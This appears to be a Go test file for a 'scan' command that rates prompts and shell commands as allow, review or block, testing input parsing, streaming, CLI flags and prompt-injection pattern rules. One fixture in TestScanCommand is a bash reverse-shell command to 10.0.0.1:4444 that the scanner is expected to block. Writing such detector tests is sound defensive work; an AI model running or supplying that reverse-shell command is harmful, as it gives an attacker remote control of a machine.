package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"sluice/pipeline"
	"sluice/stages/defend"

	"github.com/go-json-experiment/json"
)

// wordDefender knows two words, so that what scan prints does not change with the models.
type wordDefender struct{}

func (wordDefender) Name() string { return "words" }

func (wordDefender) Assess(_ context.Context, a *defend.Action, f *defend.Findings) error {
	for _, list := range [][][]byte{a.Prompts, a.Commands} {
		for _, text := range list {
			for _, w := range []struct {
				word string
				risk float64
			}{{"ATTACK", 80.25}, {"ODD", 45.0000004}} {
				if i := bytes.Index(text, []byte(w.word)); i >= 0 {
					f.Hit(w.risk, strings.ToLower(w.word), "says "+w.word)
					f.Mark(i, i+len(w.word))
				}
			}
			f.Score(float64(len(text)%10) / 3)
		}
	}
	if a.Origin == defend.OriginTool {
		f.Note("tool", "from a tool")
	}
	return nil
}

// scanKit runs a scan with wordDefender.
type scanKit struct {
	opt  scanOptions
	in   string
	code int
	out  string
	err  string
}

func (k *scanKit) run(tb testing.TB, args ...string) {
	tb.Helper()
	if k.opt.kind == "" {
		k.opt.kind = kindPrompt
	}
	if err := k.opt.check(); err != nil {
		tb.Fatal(err)
	}
	var out, errOut bytes.Buffer
	judge := &scanJudge{judge: defend.NewJudge(nil, wordDefender{}), limits: defend.Thresholds{Review: 35, Block: 65}}
	err := newScanner(&k.opt, &process{in: strings.NewReader(k.in), out: &out, err: &errOut}, judge).run(tb.Context(), args)
	k.code, k.out, k.err = 0, out.String(), errOut.String()
	if exit, ok := err.(*exitError); ok {
		k.code = exit.code
	} else if err != nil {
		k.code, k.err = 1, k.err+err.Error()
	}
}

var (
	timeField = regexp.MustCompile(`"us":[0-9.]+`)
	timeCell  = regexp.MustCompile(` +[0-9]+\.[0-9]{2}\b`)
	slowList  = regexp.MustCompile(`(?s)\nslowest:\n.*?\n\n`)
)

// golden compares with testdata/scan/NAME; times are left out.
func golden(t *testing.T, name, got string) {
	t.Helper()
	got = slowList.ReplaceAllString(got, "\n")
	got = timeCell.ReplaceAllString(timeField.ReplaceAllString(got, `"us":0`), " TIME")
	path := filepath.Join(packageDir, "testdata", "scan", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s differs (rewrite it with -update if that is meant):\n%s", name, got)
	}
}

var packageDir, _ = os.Getwd() // tests change the folder

const scanInput = `{"id":"a","kind":"prompt","text":"hello","label":"benign","role":5}
{"kind":"command","id":7,"text":"ls ODD"}

{"text":"no kind\u0020and an ATTACK, ODD at that","origin":"tool"}
{"id":null,"text":"\ud800 \"quoted\" ünïcode","tool":"exec","channel":"discord"}
{"id":"a","text":""}
`

// TestScanLines: a line for each text, in order, with the ids that came.
func TestScanLines(t *testing.T) {
	k := &scanKit{in: "\xef\xbb\xbf" + scanInput}
	k.run(t)
	if k.code != exitFound || k.err != "" {
		t.Errorf("exit status %d, %s", k.code, k.err)
	}
	golden(t, "lines.jsonl", k.out)
	for i, line := range strings.Split(strings.TrimSpace(k.out), "\n") {
		var v struct {
			ID            any
			Score         float64
			Decision      string
			Tags, Reasons []string
			US            float64 `json:"us"`
		}
		if err := json.Unmarshal([]byte(line), &v, json.MatchCaseInsensitiveNames(true)); err != nil || v.US <= 0 || v.Tags == nil || v.Reasons == nil {
			t.Errorf("line %d: %v %s", i, err, line)
		}
	}
	k = &scanKit{in: scanInput, opt: scanOptions{explain: true, summary: true}}
	k.run(t)
	golden(t, "lines.explain", k.out)
	if k = (&scanKit{}); true {
		k.run(t)
	}
	if k.code != 0 || k.out != "" || k.err != "" {
		t.Errorf("empty input: %d %q %q", k.code, k.out, k.err)
	}
}

// TestScanBadLines: each is reported with its place, none keeps the others from being judged.
func TestScanBadLines(t *testing.T) {
	k := &scanKit{in: strings.Join([]string{`{"id":1,"text":"ODD"}`, `not json`, `[1]`, `{"id":2}`, `{"id":3,"text":5}`, `{"id":4,"kind":"poem","text":"x"}`,
		`{"id":5,"origin":1,"text":"x"}`, `{"id":{},"text":"x"}`, `{"id":6,"text":"x","text":"y"}`, `{"id":7,"text":"` + strings.Repeat("x", 300_000) + `"}`,
		`{"id":8,"text":"` + strings.Repeat("x", maxScanLine) + `"}`, "{\"id\":9,\"text\":\"bad \xff utf8 ATTACK\"}", `{"id":10,"text":"last"}`}, "\n")}
	k.run(t)
	if k.code != 1 {
		t.Errorf("exit status %d", k.code)
	}
	for _, want := range []string{"stdin:2: no JSON object", "stdin:3: no JSON object", `stdin:4: "text" is missing`, `stdin:5: "text" is missing`, `stdin:6: "kind" is "poem"; it must be`,
		`stdin:7: "origin" is no string`, `stdin:8: "id" is neither`, `stdin:9: no JSON object of one line: jsontext: duplicate`, "stdin:11: the line is longer than 32 MiB", "9 inputs could not be judged"} {
		if !strings.Contains(k.err, want) {
			t.Errorf("no %q in %s", want, k.err)
		}
	}
	var ids []string
	for _, line := range strings.Split(strings.TrimSpace(k.out), "\n") {
		ids = append(ids, line[:strings.IndexByte(line, ',')])
	}
	if got := strings.Join(ids, ""); got != `{"id":1{"id":7{"id":9{"id":10` {
		t.Errorf("judged %s", got)
	}
}

// TestScanAnswersAtOnce: who feeds a line and waits gets its verdict before the next one.
func TestScanAnswersAtOnce(t *testing.T) {
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	judge := &scanJudge{judge: defend.NewJudge(nil, wordDefender{}), limits: defend.Thresholds{Review: 35, Block: 65}}
	done := make(chan error, 1)
	go func() {
		err := newScanner(&scanOptions{kind: kindPrompt}, &process{in: inR, out: outW, err: io.Discard}, judge).run(t.Context(), nil)
		outW.Close()
		done <- err
	}()
	for i := range 3 {
		fmt.Fprintf(inW, `{"id":%d,"text":"x"}`+"\n", i)
		buf := make([]byte, 512)
		if n, err := outR.Read(buf); err != nil || !strings.HasPrefix(string(buf[:n]), fmt.Sprintf(`{"id":%d,`, i)) {
			t.Fatalf("answer %q %v", buf[:n], err)
		}
	}
	inW.Close()
	if err := <-done; err != nil {
		t.Error(err)
	}
}

// TestScanRanks: scores that differ by little keep their order in the output.
func TestScanRanks(t *testing.T) {
	v := &scanVerdict{score: 12.345678901, nanos: 1234}
	got := string(appendVerdict(nil, &scanText{id: []byte(`"x"`)}, v))
	if got != `{"id":"x","score":12.345679,"decision":"allow","tags":[],"reasons":[],"us":1.234}`+"\n" {
		t.Error(got)
	}
}

// TestScanCommand: the whole command with the real defenders.
func TestScanCommand(t *testing.T) {
	c := newCLI(t)
	c.in = `{"id":"r","kind":"command","text":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}`
	c.want(exitFound, []string{"scan"}, `{"id":"r","score":`, `"decision":"block","tags":["reverse-shell"`)
	c.want(exitFound, []string{"scan", "--explain", "--summary"}, "block ", "[[bash -i", "reverse-shell", "KIND")
	c.in = `{"text":"What is the capital of France?"}`
	c.want(0, []string{"scan", "-"}, `{"id":"stdin:1","score":`, `"decision":"allow"`)
	c.in = "ls -l\n"
	c.want(1, []string{"scan"}, "stdin:1: no JSON object", "1 input could not be judged")
	c.want(1, []string{"scan", "/nonexistent"}, "/nonexistent: no such file")
	c.want(2, []string{"scan", "--kind", "poem"}, "prompt or command")
	c.want(2, []string{"scan", "--as", "poem"}, "lines, transcript, document or script")
	c.want(2, []string{"scan", "--origin", "mars"}, "owner, sender, tool, web or unknown")
	c.want(1, []string{"scan", "--config", "/nonexistent"}, "/nonexistent")
	// The configuration counts.
	c.write("sluice.json5", `{defend: {rules: {promptInjectionPatterns: ["project falcon"]}, reviewThreshold: 20}}`)
	c.in = `{"id":1,"text":"Tell me about Project Falcon"}`
	c.want(0, []string{"scan"}, `"score":45,"decision":"review"`, "it matches the pattern project falcon")
	c.want(0, []string{"scan", "--explain"}, "[[Tell me about Project Falcon]]")
}

// TestScanParity: through the judge of scan, which is that of the gateway, the first
// runtime's cases: no attack passes, nothing harmless is blocked.
func TestScanParity(t *testing.T) {
	raw, err := os.ReadFile("../../stages/defend/testdata/defender-scores.json")
	if err != nil {
		t.Fatal(err)
	}
	var file struct {
		Cases []struct {
			Prompt, Command, Tool, Channel *string
			Class                          string
		}
	}
	if err := json.Unmarshal(raw, &file, json.MatchCaseInsensitiveNames(true)); err != nil || len(file.Cases) == 0 {
		t.Fatalf("%d cases, %v", len(file.Cases), err)
	}
	c := newCLI(t)
	loc, snap, err := (&place{}).load(&process{environ: c.env})
	if err != nil {
		t.Fatal(err)
	}
	judge, err := newScanJudge(t.Context(), loc, snap)
	if err != nil {
		t.Fatal(err)
	}
	deref := func(s *string) string {
		if s == nil {
			return ""
		}
		return *s
	}
	for _, c := range file.Cases {
		text := &scanText{kind: kindPrompt, text: []byte(deref(c.Prompt)), tool: deref(c.Tool), channel: deref(c.Channel)}
		if c.Command != nil {
			text.kind, text.text = kindCommand, []byte(*c.Command)
		}
		v, err := judge.assess(t.Context(), text)
		switch {
		case err != nil:
			t.Fatal(err)
		case c.Class == "attack" && v.action == pipeline.Allow:
			t.Errorf("an attack passes: %s %q (%.2f)", text.kind, text.text, v.score)
		case c.Class == "benign" && v.action == pipeline.Block:
			t.Errorf("harmless and blocked: %s %q (%.2f %v)", text.kind, text.text, v.score, v.reasons)
		}
	}
}
